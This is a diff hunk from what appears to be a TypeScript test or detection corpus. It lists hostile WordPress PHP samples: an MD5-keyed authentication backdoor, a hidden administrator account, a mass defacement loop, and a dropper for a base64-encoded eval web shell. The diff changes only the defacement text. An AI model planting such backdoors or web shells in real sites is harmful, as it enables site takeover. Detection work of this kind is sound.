@@ -71,7 +71,7 @@ export const WILD: readonly Technique[] = [
     samples: [
       php(`add_action('init', 'a'); function a() { if (md5($_GET['k']) == '5f4dcc3b5aa765d61d8327deb882cf99') { wp_set_auth_cookie(1); } }`),
       php(`require('wp-blog-header.php'); $id = wp_create_user('sys', 'x'); $u = new WP_User($id); $u->set_role('administrator');`),
-      php(`foreach (scandir('.') as $d) if (is_dir($d)) file_put_contents("$d/i.html", '<h1>Hacked by nobody</h1>');`),
+      php(`foreach (scandir('.') as $d) if (is_dir($d)) file_put_contents("$d/i.html", '<h1>Hacked by someone</h1>');`),
       php(`file_put_contents('x.php', base64_decode('${base64('<?php eval($_POST[1]); ?>')}'));`),
     ],
     honest: [
